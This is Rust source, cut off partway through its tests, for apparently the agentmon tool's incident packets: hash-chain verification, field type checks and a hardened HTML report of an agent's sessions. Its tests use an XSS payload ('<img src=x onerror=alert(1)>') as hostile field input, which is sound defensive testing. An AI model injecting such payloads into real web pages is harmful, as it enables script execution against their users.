//! Incident packets: one self-contained file a reviewer can check offline. This is the core:
//! the format, its check and its HTML page. `cli/export.rs` gathers the rows and writes the
//! file; `agentmon verify --packet` (also there) prints what [`verify_text`] finds.
//!
//! A packet holds, per host, a stretch of the host's hash chain: the chain hash just before
//! the first row of the selected sessions (`prev_hash`), then every row up to the first signed
//! checkpoint that covers their last row. Rows of the selected sessions (session start and
//! end, actions, processes, raw events, alerts, the agent's reports and its tool calls) are there in full, as the row objects the chain
//! hashes (`chain::ROW_SQL`); other rows of the stretch only as their leaf hash. The checkpoint
//! and the public key close the proof: re-hashing the rows, chaining the leaves from
//! `prev_hash` must give the checkpoint's head hash, and the signature must verify.
//!
//! The JSON form is the packet object in canonical JSON (RFC 8785), so any change to the file,
//! even of whitespace, is detected. The HTML form renders the same object for people (a
//! timeline, process trees, files changed, hosts contacted, alerts, the agent's declared tool
//! calls beside the actions, the verification) and
//! embeds it; `verify --packet` re-renders the page and compares it byte for byte.

use std::fmt::Write as _;

use chrono::DateTime;
use serde_json::Value;

use crate::{
    chain::{self, GENESIS},
    record::{call_input_summary, VERDICTS},
};

pub const FORMAT: &str = "agentmon-packet/1";

/// Tables whose rows belong to a session, and the key naming it.
pub const SESSION_TABLES: &[(&str, &str)] = &[
    ("sessions", "id"),
    ("session_ends", "session_id"),
    ("actions", "session_id"),
    ("processes", "session_id"),
    ("events", "session_id"),
    ("alerts", "session_id"),
    ("agent_reports", "session_id"),
    ("tool_calls", "session_id"),
];

/// What a packet proves.
#[derive(Debug, Default)]
pub struct Report {
    pub rows: u64,
    pub leaves: u64,
    /// (host, `covers_seq`) of each checkpoint.
    pub checkpoints: Vec<(String, u64)>,
    /// Fingerprints of the keys that signed, one per proof.
    pub keys: Vec<String>,
    /// Whether every proof is signed by a key given apart from the packet (`--key`). Without
    /// one the packet only proves it is consistent: anyone can make such a packet with a key
    /// of their own.
    pub authenticated: bool,
}

impl Report {
    /// `checkpoint HOST#SEQ`, or `checkpoints HOST#SEQ, ...` for several hosts.
    pub fn checkpoints_text(&self) -> String {
        let list: Vec<String> = self.checkpoints.iter().map(|(h, s)| format!("{h}#{s}")).collect();
        format!("checkpoint{} {}", if list.len() == 1 { "" } else { "s" }, list.join(", "))
    }
}

/// Check a packet object: every proof's chain reaches its signed checkpoint.
pub fn check(packet: &Value) -> Result<Report, String> {
    if packet["format"] != FORMAT {
        return Err(format!("not an agentmon packet (format {}, expected {FORMAT})", packet["format"]));
    }
    let proofs = packet["proofs"].as_array().filter(|p| !p.is_empty()).ok_or("the packet has no proof")?;
    let sessions: Vec<&str> = packet["sessions"]
        .as_array()
        .and_then(|a| a.iter().map(Value::as_str).collect())
        .ok_or("the packet's `sessions` is not a list of ids")?;
    let sessions = &sessions;
    let mut report = Report::default();
    for p in proofs {
        let host = p["host"].as_str().ok_or("a proof without host")?;
        let mut head = crate::record::parse_hash(p["prev_hash"].as_str().unwrap_or_default()).ok_or("bad prev_hash")?;
        let mut seq = p["first_seq"].as_u64().ok_or("bad first_seq")?;
        if seq == 0 || (seq == 1 && head != GENESIS) {
            return Err(format!("{host}: the chain must start from the genesis hash at row 1"));
        }
        for e in p["entries"].as_array().ok_or("a proof without entries")? {
            if e["seq"].as_u64() != Some(seq) {
                return Err(format!("{host}: row {seq} is missing (found {})", e["seq"]));
            }
            let leaf = if let Some(row) = e.get("row") {
                if row["chain_seq"].as_u64() != Some(seq) {
                    return Err(format!("{host}: row {seq} carries chain_seq {}", row["chain_seq"]));
                }
                check_row(row, sessions).map_err(|m| format!("{host}: row {seq}: {m}"))?;
                report.rows += 1;
                chain::leaf(row)
            } else {
                report.leaves += 1;
                crate::record::parse_hash(e["leaf"].as_str().unwrap_or_default())
                    .ok_or_else(|| format!("{host}: row {seq}: bad leaf"))?
            };
            head = chain::link(&head, &leaf);
            seq += 1;
        }
        let c: crate::record::Checkpoint = serde_json::from_value(crate::verify::checkpoint_fields(&p["checkpoint"]))
            .map_err(|e| format!("{host}: bad checkpoint: {e}"))?;
        if c.covers_seq + 1 != seq {
            return Err(format!("{host}: the rows end at {} but the checkpoint covers {}", seq - 1, c.covers_seq));
        }
        if crate::record::parse_hash(&c.head_hash) != Some(head) {
            return Err(format!(
                "{host}: the rows do not hash to the checkpoint's head (row {}): the packet was changed",
                c.covers_seq
            ));
        }
        let pk = p["public_key"].as_str().unwrap_or_default();
        if crate::text::unhex(pk).is_none_or(|k| chain::key_fingerprint(&k) != c.key_fingerprint) {
            return Err(format!(
                "{host}: the public key is not the one that signed (fingerprint {})",
                c.key_fingerprint
            ));
        }
        if !chain::signature_valid(host, &c, pk) {
            return Err(format!("{host}: the checkpoint's signature does not verify"));
        }
        report.checkpoints.push((host.to_owned(), c.covers_seq));
        report.keys.push(c.key_fingerprint);
    }
    Ok(report)
}

/// What a field of a row must be. The database's column types guarantee it for every packet
/// `export` writes; a packet made any other way may hold anything.
#[derive(Debug, Clone, Copy)]
enum Kind {
    Id,
    OptId,
    Ids,
    Text,
    OptText,
    Texts,
    Int,
    OptInt,
    Severity,
    Verdict,
    Files,
    Nets,
}

/// The fields of each session table that the page shows or that tie rows together.
const FIELDS: &[(&str, &[(&str, Kind)])] = &[
    (
        "sessions",
        &[
            ("id", Kind::Id),
            ("agent", Kind::Text),
            ("label", Kind::OptText),
            ("host", Kind::Text),
            ("started_at", Kind::Int),
        ],
    ),
    (
        "session_ends",
        &[
            ("session_id", Kind::Id),
            ("ended_at", Kind::Int),
            ("root_argv", Kind::Texts),
            ("actions", Kind::Int),
            ("events", Kind::Int),
            ("events_lost", Kind::Int),
            ("files", Kind::Files),
            ("net", Kind::Nets),
        ],
    ),
    (
        "actions",
        &[
            ("id", Kind::Id),
            ("session_id", Kind::Id),
            ("started_at", Kind::Int),
            ("command", Kind::Text),
            ("duration_ms", Kind::OptInt),
            ("exit_code", Kind::OptInt),
            ("signal", Kind::OptInt),
            ("files", Kind::Files),
            ("net", Kind::Nets),
        ],
    ),
    (
        "processes",
        &[
            ("id", Kind::Id),
            ("session_id", Kind::Id),
            ("action_id", Kind::OptId),
            ("pid", Kind::Int),
            ("ppid", Kind::Int),
            ("argv", Kind::Texts),
            ("started_at", Kind::Int),
            ("exit_code", Kind::OptInt),
            ("signal", Kind::OptInt),
        ],
    ),
    ("events", &[("id", Kind::Id), ("session_id", Kind::Id), ("action_id", Kind::OptId), ("kind", Kind::Text)]),
    (
        "alerts",
        &[
            ("id", Kind::Id),
            ("session_id", Kind::Id),
            ("action_ids", Kind::Ids),
            ("rule", Kind::Text),
            ("severity", Kind::Severity),
            ("first_at", Kind::Int),
            ("count", Kind::Int),
            ("summary", Kind::Text),
        ],
    ),
    (
        "agent_reports",
        &[
            ("id", Kind::Id),
            ("session_id", Kind::Id),
            ("received_at", Kind::Int),
            ("channel", Kind::Text),
            ("event", Kind::Text),
            ("tool_use_id", Kind::OptText),
            ("pid", Kind::Int),
            ("attestation", Kind::Text),
            ("body", Kind::Text),
        ],
    ),
    (
        "tool_calls",
        &[
            ("id", Kind::Id),
            ("session_id", Kind::Id),
            ("tool_use_id", Kind::OptText),
            ("tool_name", Kind::OptText),
            ("input", Kind::OptText),
            ("decision", Kind::OptText),
            ("started_at", Kind::Int),
            ("verdict", Kind::Verdict),
            ("reason", Kind::Text),
            ("action_ids", Kind::Ids),
            ("event_ids", Kind::Ids),
            ("report_ids", Kind::Ids),
        ],
    ),
];

/// A UUID as the database writes it: lowercase, hyphenated.
fn is_id(v: &Value) -> bool {
    v.as_str().is_some_and(|s| uuid::Uuid::parse_str(s).is_ok_and(|u| u.hyphenated().to_string() == s))
}

fn objects_with(v: &Value, fields: &[(&str, Kind)]) -> bool {
    v.as_array().is_some_and(|a| a.iter().all(|o| o.is_object() && fields.iter().all(|(k, kind)| is(&o[*k], *kind))))
}

fn is(v: &Value, kind: Kind) -> bool {
    match kind {
        Kind::Id => is_id(v),
        Kind::OptId => v.is_null() || is_id(v),
        Kind::Ids => v.as_array().is_some_and(|a| a.iter().all(is_id)),
        Kind::Text => v.is_string(),
        Kind::OptText => v.is_null() || v.is_string(),
        Kind::Texts => v.as_array().is_some_and(|a| a.iter().all(Value::is_string)),
        Kind::Int => v.is_i64(),
        Kind::OptInt => v.is_null() || v.is_i64(),
        Kind::Severity => v.as_str().is_some_and(|s| crate::alerts::SEVERITIES.contains(&s)),
        Kind::Verdict => v.as_str().is_some_and(|s| VERDICTS.contains(&s)),
        Kind::Files => objects_with(
            v,
            &[("access", Kind::Text), ("path", Kind::Text), ("result", Kind::Text), ("count", Kind::Int)],
        ),
        Kind::Nets => objects_with(
            v,
            &[
                ("op", Kind::Text),
                ("family", Kind::Text),
                ("addr", Kind::OptText),
                ("port", Kind::OptInt),
                ("host", Kind::OptText),
                ("result", Kind::Text),
                ("count", Kind::Int),
            ],
        ),
    }
}

fn kind_text(kind: Kind) -> &'static str {
    match kind {
        Kind::Id => "an id",
        Kind::OptId => "an id or null",
        Kind::Ids => "a list of ids",
        Kind::Text => "a string",
        Kind::OptText => "a string or null",
        Kind::Texts => "a list of strings",
        Kind::Int => "an integer",
        Kind::OptInt => "an integer or null",
        Kind::Severity => "a severity (info, low, medium, high, critical)",
        Kind::Verdict => "a verdict (matched, mismatch, denied, unobserved, undeclared)",
        Kind::Files => "a list of file entries (access, path, result, count)",
        Kind::Nets => "a list of network entries (op, family, addr, port, host, result, count)",
    }
}

/// A row in full must be of a session table, of a session the packet lists, with each field
/// of the type its column has.
fn check_row(row: &Value, sessions: &[&str]) -> Result<(), String> {
    let table = row["table"].as_str().unwrap_or_default();
    let (_, key) = SESSION_TABLES
        .iter()
        .find(|(t, _)| *t == table)
        .ok_or_else(|| format!("`table` {} is not one of a session's tables", row["table"]))?;
    let (_, fields) = FIELDS.iter().find(|(t, _)| *t == table).ok_or("a table without fields")?;
    for (name, kind) in *fields {
        if !is(&row[*name], *kind) {
            return Err(format!("{table}.{name} is not {}", kind_text(*kind)));
        }
    }
    if !row[*key].as_str().is_some_and(|id| sessions.contains(&id)) {
        return Err(format!("a {table} row of session {}, which the packet does not list", row[*key]));
    }
    Ok(())
}

const HTML_MARK: &str = "<script type=\"application/json\" id=\"agentmon-packet\">";

/// Check a packet file's text (canonical JSON, or the HTML page with the packet in it): the
/// proof holds and the file is exactly what the packet renders to. With `keys` (hex public
/// keys or fingerprints, obtained apart from the packet), every proof must be signed by one of
/// them, and the report is `authenticated`; without, it is not, whatever the packet holds.
pub fn verify_text(text: &str, keys: &[String]) -> Result<Report, String> {
    let is_html = text.trim_start().starts_with("<!DOCTYPE html>");
    let body = if is_html {
        let start =
            text.find(HTML_MARK).map(|i| i + HTML_MARK.len()).ok_or("an HTML file without an agentmon packet in it")?;
        let end = text[start..].find("</script>").ok_or("the packet's script is not closed")? + start;
        text[start..end].to_owned()
    } else {
        text.to_owned()
    };
    let packet: Value = serde_json::from_str(&body).map_err(|e| format!("not JSON: {e}"))?;
    let mut report = check(&packet)?;
    if !keys.is_empty() {
        let keys: Vec<String> = keys.iter().map(|k| k.trim().to_ascii_lowercase()).collect();
        let proofs = packet["proofs"].as_array().map(Vec::as_slice).unwrap_or_default();
        for (p, fingerprint) in proofs.iter().zip(&report.keys) {
            let public_key = p["public_key"].as_str().unwrap_or_default();
            if !keys.iter().any(|k| k == public_key || k == fingerprint) {
                return Err(format!(
                    "{}: the packet is signed by key {fingerprint}, not by a key given with --key",
                    p["host"].as_str().unwrap_or_default()
                ));
            }
        }
        report.authenticated = true;
    }
    let expected = if is_html { html(&packet, &report) } else { chain::canonical(&packet) + "\n" };
    if expected != text {
        return Err("the file differs from the packet it holds (edited outside the proven rows)".into());
    }
    Ok(report)
}

// ---- HTML -------------------------------------------------------------------------------

/// Text for the page: hidden characters made visible (`text::visible`: bidi overrides,
/// zero-width characters, controls), then escaped for HTML, quotes included (it is also used in
/// attributes).
fn esc(s: &str) -> String {
    let s = crate::text::visible(s);
    let mut o = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '<' => o.push_str("&lt;"),
            '>' => o.push_str("&gt;"),
            '&' => o.push_str("&amp;"),
            '"' => o.push_str("&quot;"),
            '\'' => o.push_str("&#39;"),
            c => o.push(c),
        }
    }
    o
}

/// A string field for the page; empty when it is not a string.
fn text(v: &Value) -> String {
    esc(v.as_str().unwrap_or_default())
}

/// An integer field for the page; `-` when it is not an integer, so nothing else reaches it.
fn int(v: &Value) -> String {
    v.as_i64().map_or_else(|| "-".into(), |n| n.to_string())
}

fn time(us: &Value) -> String {
    us.as_i64()
        .and_then(DateTime::from_timestamp_micros)
        .map_or_else(|| "-".into(), |t| t.format("%Y-%m-%d %H:%M:%S%.3f UTC").to_string())
}

fn clock(us: &Value) -> String {
    us.as_i64()
        .and_then(DateTime::from_timestamp_micros)
        .map_or_else(|| "-".into(), |t| t.format("%H:%M:%S%.3f").to_string())
}

/// An argv as a shell command line (not yet escaped for the page).
fn argv(v: &Value) -> String {
    v.as_array()
        .map(|a| a.iter().map(|s| crate::text::shell_quote(s.as_str().unwrap_or(""))).collect::<Vec<_>>().join(" "))
        .unwrap_or_default()
}

fn status(row: &Value) -> (String, &'static str) {
    match (row["exit_code"].as_i64(), row["signal"].as_i64()) {
        (_, Some(s)) => (format!("signal {s}"), "bad"),
        (Some(0), None) => ("exit 0".into(), "ok"),
        (Some(c), None) => (format!("exit {c}"), "bad"),
        (None, None) => ("-".into(), "unknown"),
    }
}

const STYLE: &str = "body{font:14px/1.45 system-ui,sans-serif;margin:2em auto;max-width:1100px;color:#1b1f24;padding:0 1em}\
h1{font-size:1.5em}h2{font-size:1.2em;margin-top:1.6em;border-bottom:1px solid #d0d7de}\
table{border-collapse:collapse;width:100%}td,th{border-bottom:1px solid #eaeef2;padding:3px 6px;text-align:left;vertical-align:top}\
code,pre{font:12px/1.4 ui-monospace,monospace}pre{background:#f6f8fa;padding:6px;overflow-x:auto;margin:4px 0}\
.ok{color:#1a7f37}.bad{color:#cf222e;font-weight:600}.unknown{color:#6e7781}\
.verified{background:#dafbe1;border:1px solid #1a7f37;padding:8px 12px;border-radius:6px}\
.alert{background:#fff1e5;border-left:4px solid #bc4c00;padding:4px 8px;margin:4px 0}\
.alert.high,.alert.critical{background:#ffebe9;border-left-color:#cf222e}\
tr.flagged td{background:#fff8c5}.sev{font-weight:700;text-transform:uppercase}.muted{color:#6e7781}\
.verdict-matched{color:#1a7f37}.verdict-denied,.verdict-unobserved{color:#6e7781}\
.verdict-undeclared,.verdict-mismatch{color:#cf222e;font-weight:600}\
tr.verdict-undeclared td,tr.verdict-mismatch td{background:#ffebe9}";

/// The page's Content-Security-Policy: nothing loads and no script runs (the embedded packet is
/// data, never executed); only the page's own style sheet applies, by its hash.
fn content_security_policy() -> String {
    use sha2::Digest as _;
    format!(
        "default-src 'none'; style-src 'sha256-{}'; base-uri 'none'; form-action 'none'",
        base64(&sha2::Sha256::digest(STYLE.as_bytes()))
    )
}

/// Standard base64 with padding (RFC 4648), for the style sheet's hash in the policy.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The page for a packet: deterministic, so `verify --packet` can re-render and compare.
pub fn html(packet: &Value, report: &Report) -> String {
    let mut rows: Vec<&Value> = Vec::new();
    for p in packet["proofs"].as_array().into_iter().flatten() {
        for e in p["entries"].as_array().into_iter().flatten() {
            if let Some(r) = e.get("row") {
                rows.push(r);
            }
        }
    }
    let of = |t: &'static str| rows.iter().copied().filter(move |r| r["table"] == t);
    let mut h = String::new();
    let _ = write!(
        h,
        "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
         <meta http-equiv=\"Content-Security-Policy\" content=\"{}\">\
         <title>agentmon incident packet</title><style>{STYLE}</style></head><body>\n",
        content_security_policy()
    );
    let _ = writeln!(h, "<h1>agentmon incident packet</h1>");
    let _ = writeln!(
        h,
        "<p class=\"verified\" id=\"verification\"><b>Verified at export</b>: {} rows in full and {} leaf hashes chain to the signed {}, signed by the key with fingerprint <code>{}</code>. \
         A page cannot vouch for itself, as anyone can write one: check this file with <code>agentmon verify --packet FILE --key KEY</code>, \
         KEY being the host's public key (or its fingerprint) obtained apart from this file.</p>",
        report.rows,
        report.leaves,
        esc(&report.checkpoints_text()),
        esc(&report.keys.join(", "))
    );
    let alerts: Vec<&Value> = of("alerts").collect();
    let flagged: std::collections::HashSet<&str> = alerts
        .iter()
        .flat_map(|a| a["action_ids"].as_array().into_iter().flatten().filter_map(Value::as_str))
        .collect();
    for s in of("sessions") {
        let id = s["id"].as_str().unwrap_or_default();
        let end = of("session_ends").find(|e| e["session_id"] == id);
        let _ = writeln!(h, "<h2>Session <code>{}</code></h2>", esc(id));
        let _ = writeln!(h, "<table><tbody>");
        let mut field = |k: &str, v: String| {
            let _ = writeln!(h, "<tr><th>{k}</th><td>{v}</td></tr>");
        };
        field("agent", text(&s["agent"]));
        if let Some(l) = s["label"].as_str() {
            field("label", esc(l));
        }
        field("host", text(&s["host"]));
        field("started", time(&s["started_at"]));
        field("ended", end.map_or_else(|| "still running at export".into(), |e| time(&e["ended_at"])));
        if let Some(e) = end {
            field("agent command", format!("<code>{}</code>", esc(&argv(&e["root_argv"]))));
            field("actions", int(&e["actions"]));
            field("raw events", format!("{} ({} lost)", int(&e["events"]), int(&e["events_lost"])));
            field("files changed by the agent process itself", changed_files(&e["files"]).join("<br>"));
            field("hosts contacted by the agent process itself", contacted(&e["net"]).join("<br>"));
        }
        let _ = writeln!(h, "</tbody></table>");

        let mine: Vec<&&Value> = alerts.iter().filter(|a| a["session_id"] == id).collect();
        let _ = writeln!(h, "<h3>Alerts ({})</h3>", mine.len());
        for a in mine {
            let sev = a["severity"].as_str().unwrap_or_default();
            let _ = writeln!(
                h,
                "<div class=\"alert {}\"><span class=\"sev\">{}</span> <b>{}</b> {} &middot; {} <span class=\"muted\">(&times;{})</span></div>",
                esc(sev),
                esc(sev),
                text(&a["rule"]),
                clock(&a["first_at"]),
                text(&a["summary"]),
                int(&a["count"])
            );
        }

        let actions = in_order(of("actions").filter(|a| a["session_id"] == id));
        let calls = in_order(of("tool_calls").filter(|c| c["session_id"] == id));
        let _ = writeln!(h, "<h3>Timeline ({} actions)</h3>\n<table><thead><tr><th>time</th><th>command</th><th>status</th><th>duration</th><th>files changed</th><th>hosts contacted</th><th>declared call</th></tr></thead><tbody>", actions.len());
        for a in &actions {
            let aid = a["id"].as_str().unwrap_or_default();
            let (st, class) = status(a);
            let (changed, hosts) = (changed_files(&a["files"]), contacted(&a["net"]));
            let procs: Vec<&Value> = of("processes").filter(|p| p["action_id"] == aid).collect();
            let _ = writeln!(
                h,
                "<tr{}><td>{}</td><td><code>{}</code><details><summary>process tree ({})</summary><pre>{}</pre></details></td><td class=\"{class}\">{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>",
                if flagged.contains(aid) { " class=\"flagged\"" } else { "" },
                clock(&a["started_at"]),
                text(&a["command"]),
                procs.len(),
                tree(&procs).iter().map(|l| esc(l)).collect::<Vec<_>>().join("\n"),
                st,
                crate::text::duration(a["duration_ms"].as_i64()),
                changed.join("<br>"),
                hosts.join("<br>"),
                declared_beside(&calls, aid)
            );
        }
        let _ = writeln!(h, "</tbody></table>");

        calls_section(&mut h, &calls);
    }
    // No `<` in the data, so nothing in it can close the script element or open a comment.
    let json_text = chain::canonical(packet).replace('<', "\\u003c");
    let _ = write!(h, "<p class=\"muted\">Packet format {FORMAT}; the evidence rows and their proof are embedded below.</p>\n{HTML_MARK}{json_text}</script>\n</body></html>\n");
    h
}

/// A session's tool calls as a table: each declared call with its verdict, and the actions
/// no call declared; `undeclared` and `mismatch` rows marked.
fn calls_section(h: &mut String, calls: &[&Value]) {
    let _ = writeln!(h, "<h3>Declared tool calls ({})</h3>", calls.len());
    let _ = writeln!(h, "<table><thead><tr><th>time</th><th>tool</th><th>verdict</th><th>decision</th><th>declared</th><th>reason</th><th>actions</th></tr></thead><tbody>");
    for c in calls {
        let class = verdict_class(c);
        let actions: Vec<String> = c["action_ids"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(Value::as_str)
            .map(|a| format!("<code>{}</code>", esc(a.get(a.len().saturating_sub(8)..).unwrap_or(a))))
            .collect();
        let _ = writeln!(
            h,
            "<tr{}><td>{}</td><td>{}</td><td{}>{}</td><td>{}</td><td><code>{}</code></td><td>{}</td><td>{}</td></tr>",
            class.as_deref().map(|c| format!(" class=\"{c}\"")).unwrap_or_default(),
            clock(&c["started_at"]),
            c["tool_name"].as_str().map_or_else(|| "(undeclared)".into(), esc),
            class.as_deref().map(|c| format!(" class=\"{c}\"")).unwrap_or_default(),
            text(&c["verdict"]),
            c["decision"].as_str().map_or_else(|| "-".into(), esc),
            c["input"].as_str().map_or_else(|| "-".into(), |i| esc(&call_input_summary(i))),
            text(&c["reason"]),
            actions.join(" ")
        );
    }
    let _ = writeln!(h, "</tbody></table>");
}

/// The class of a tool call's verdict (`verdict-undeclared`, ...), only for a known verdict.
fn verdict_class(call: &Value) -> Option<String> {
    call["verdict"].as_str().filter(|v| VERDICTS.contains(v)).map(|v| format!("verdict-{v}"))
}

/// Rows by start time, then chain position.
fn in_order<'a>(rows: impl Iterator<Item = &'a Value>) -> Vec<&'a Value> {
    let mut rows: Vec<&Value> = rows.collect();
    rows.sort_by_key(|r| (r["started_at"].as_i64(), r["chain_seq"].as_i64()));
    rows
}

/// The tool calls that list action `aid`, as HTML lines; `-` for none.
fn declared_beside(calls: &[&Value], aid: &str) -> String {
    let marks: Vec<String> = calls
        .iter()
        .filter(|c| c["action_ids"].as_array().is_some_and(|ids| ids.iter().any(|x| x == aid)))
        .map(|c| declared_mark(c))
        .collect();
    if marks.is_empty() {
        "-".into()
    } else {
        marks.join("<br>")
    }
}

/// A tool call beside the action it lists, as HTML: `Bash: matched`, or `undeclared`.
fn declared_mark(call: &Value) -> String {
    let verdict = text(&call["verdict"]);
    let what = call["tool_name"].as_str().map_or(verdict.clone(), |t| format!("{}: {verdict}", esc(t)));
    match verdict_class(call) {
        Some(class) => format!("<span class=\"{class}\">{what}</span>"),
        None => what,
    }
}

/// The modifying entries of a `files` array, as HTML lines.
fn changed_files(files: &Value) -> Vec<String> {
    files
        .as_array()
        .into_iter()
        .flatten()
        .filter(|f| f["access"].as_str().is_some_and(|x| crate::record::WRITE_ACCESSES.contains(&x)))
        .map(|f| {
            let result = if f["result"] == "ok" {
                String::new()
            } else {
                format!(" ({})", esc(f["result"].as_str().unwrap_or("")))
            };
            format!("{} {}{result}", esc(f["access"].as_str().unwrap_or("")), esc(f["path"].as_str().unwrap_or("")))
        })
        .collect()
}

/// The connects of a `net` array (not unix sockets), with the DNS name when known.
fn contacted(net: &Value) -> Vec<String> {
    net.as_array()
        .into_iter()
        .flatten()
        .filter(|n| n["op"] == "connect" && n["family"] != "unix")
        .map(|n| {
            let name = n["host"].as_str().map(|x| format!("{x} ")).unwrap_or_default();
            format!(
                "{}{}:{} ({})",
                esc(&name),
                esc(n["addr"].as_str().unwrap_or("?")),
                int(&n["port"]),
                esc(n["result"].as_str().unwrap_or(""))
            )
        })
        .collect()
}

/// An action's processes as an indented tree (by ppid), one line each with its argv (not yet
/// escaped for the page).
fn tree(procs: &[&Value]) -> Vec<String> {
    /// Writes process `p` at `depth`, then its children one deeper, each process once.
    fn walk(
        out: &mut Vec<String>,
        all: &[&Value],
        p: &Value,
        depth: usize,
        seen: &mut std::collections::HashSet<String>,
    ) {
        let id = p["id"].as_str().unwrap_or_default().to_owned();
        if depth > 64 || !seen.insert(id) {
            return;
        }
        let (st, _) = status(p);
        out.push(format!("{}{} {}  [{}]", "  ".repeat(depth), int(&p["pid"]), argv(&p["argv"]), st));
        for c in all.iter().filter(|c| c["ppid"] == p["pid"] && c["id"] != p["id"]) {
            walk(out, all, c, depth + 1, seen);
        }
    }
    let mut sorted: Vec<&Value> = procs.to_vec();
    sorted.sort_by_key(|p| (p["started_at"].as_i64(), p["pid"].as_i64()));
    let pids: std::collections::HashSet<i64> = sorted.iter().filter_map(|p| p["pid"].as_i64()).collect();
    let mut out = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for root in sorted.iter().filter(|p| !p["ppid"].as_i64().is_some_and(|pp| pids.contains(&pp))) {
        walk(&mut out, &sorted, root, 0, &mut seen);
    }
    out
}

#[cfg(test)]
mod tests {
    use ed25519_dalek::Signer as _;
    use serde_json::json;

    use super::*;
    use crate::text::hex;

    const S: &str = "0193a000-0000-7000-8000-000000000001";

    fn action(i: u64) -> Value {
        json!({"table": "actions", "chain_seq": i, "id": format!("0193a000-0000-7000-8000-0000000001{i:02}"),
               "session_id": S, "command": format!("echo {i}"), "started_at": i * 1_000_000, "files": [], "net": []})
    }

    /// A packet over `rows` (chain positions 1, 2, ...): the rows from the second on, those at
    /// an even position in full and the others as leaves, up to a checkpoint signed by the key
    /// of `seed`.
    fn sealed(rows: &[Value], seed: u8) -> Value {
        let key = ed25519_dalek::SigningKey::from_bytes(&[seed; 32]);
        let mut head = GENESIS;
        let mut at_first = GENESIS;
        for (i, r) in rows.iter().enumerate() {
            if i == 1 {
                at_first = head;
            }
            head = chain::link(&head, &chain::leaf(r));
        }
        let mut c = crate::record::Checkpoint {
            id: uuid::Uuid::nil(),
            covers_seq: rows.len() as u64,
            head_hash: hex(&head),
            at: DateTime::from_timestamp_micros(6_000_000).expect("time"),
            kind: "periodic".into(),
            next_within_secs: 60,
            key_fingerprint: chain::key_fingerprint(key.verifying_key().as_bytes()),
            signature: String::new(),
            chain: crate::record::ChainLink::default(),
        };
        c.signature = hex(&key.sign(&chain::checkpoint_message("h", &c)).to_bytes());
        let entries: Vec<Value> = rows[1..]
            .iter()
            .enumerate()
            .map(|(i, r)| {
                let seq = i as u64 + 2;
                if seq.is_multiple_of(2) {
                    json!({"seq": seq, "row": r})
                } else {
                    json!({"seq": seq, "leaf": hex(&chain::leaf(r))})
                }
            })
            .collect();
        json!({
            "format": FORMAT, "exported_at": 0, "sessions": [S],
            "proofs": [{"host": "h", "first_seq": 2, "prev_hash": hex(&at_first), "entries": entries,
                        "checkpoint": chain::checkpoint_row("h", &c, rows.len() as u64 + 1),
                        "public_key": hex(key.verifying_key().as_bytes())}],
        })
    }

    /// A packet over a five-row chain: rows 2 and 4 in full, the rest as leaves.
    fn packet() -> Value {
        sealed(&(1..=5).map(action).collect::<Vec<_>>(), 7)
    }

    fn public_key(seed: u8) -> String {
        hex(ed25519_dalek::SigningKey::from_bytes(&[seed; 32]).verifying_key().as_bytes())
    }

    /// A change to a packet that must make it fail to verify.
    type Break = Box<dyn Fn(&mut Value)>;

    #[test]
    fn a_packet_checks_and_any_change_to_its_proof_fails() {
        let p = packet();
        let r = check(&p).expect("verifies");
        assert_eq!((r.rows, r.leaves, r.checkpoints.clone()), (2, 2, vec![("h".to_owned(), 5)]));
        assert!(!r.authenticated, "check alone authenticates nothing");
        let breaks: Vec<(&str, Break)> = vec![
            ("a row's text", Box::new(|p| p["proofs"][0]["entries"][0]["row"]["command"] = json!("echo X"))),
            ("a leaf", Box::new(|p| p["proofs"][0]["entries"][1]["leaf"] = json!("00".repeat(32)))),
            ("a row dropped", Box::new(|p| drop(p["proofs"][0]["entries"].as_array_mut().expect("entries").remove(1)))),
            ("the anchor", Box::new(|p| p["proofs"][0]["prev_hash"] = json!("11".repeat(32)))),
            ("the signature", Box::new(|p| p["proofs"][0]["checkpoint"]["signature"] = json!("22".repeat(64)))),
            ("another key", Box::new(|p| p["proofs"][0]["public_key"] = json!(public_key(8)))),
            ("the format", Box::new(|p| p["format"] = json!("other/1"))),
            ("the sessions", Box::new(|p| p["sessions"] = json!("all"))),
        ];
        for (what, f) in breaks {
            let mut q = p.clone();
            f(&mut q);
            assert!(check(&q).is_err(), "{what} changed, yet it verifies");
        }
    }

    /// A packet re-signed with a key of the forger's own is consistent, so its fields can hold
    /// anything: each field the page shows must have its column's type, each row must be of a
    /// listed session.
    #[test]
    fn a_resigned_packet_with_a_mistyped_field_fails() {
        let payload = "<img src=x onerror=alert(1)>";
        let mut alert = json!({"table": "alerts", "chain_seq": 2, "id": "0193a000-0000-7000-8000-000000000201",
            "session_id": S, "action_ids": [], "rule": "sudo", "severity": "high", "first_at": 0, "count": 1,
            "summary": "s"});
        let end = json!({"table": "session_ends", "chain_seq": 2, "session_id": S, "ended_at": 0, "root_argv": ["sh"],
            "actions": 1, "events": 2, "events_lost": 0, "files": [], "net": []});
        assert!(check(&sealed(&[action(1), alert.clone()], 9)).is_ok(), "well typed, it checks");
        assert!(check(&sealed(&[action(1), end.clone()], 9)).is_ok());
        let cases: Vec<(Value, &str)> = vec![
            (json!({"count": payload}), "alerts.count is not an integer"),
            (json!({"count": 1.5}), "alerts.count is not an integer"),
            (json!({"severity": payload}), "alerts.severity is not a severity"),
            (json!({"summary": 7}), "alerts.summary is not a string"),
            (json!({"id": payload}), "alerts.id is not an id"),
            (json!({"action_ids": [payload]}), "alerts.action_ids is not a list of ids"),
            (json!({"session_id": "0193a000-0000-7000-8000-000000000999"}), "which the packet does not list"),
            (json!({"table": "signing_keys"}), "is not one of a session's tables"),
        ];
        for (change, want) in cases {
            for (k, v) in change.as_object().expect("object") {
                alert[k] = v.clone();
            }
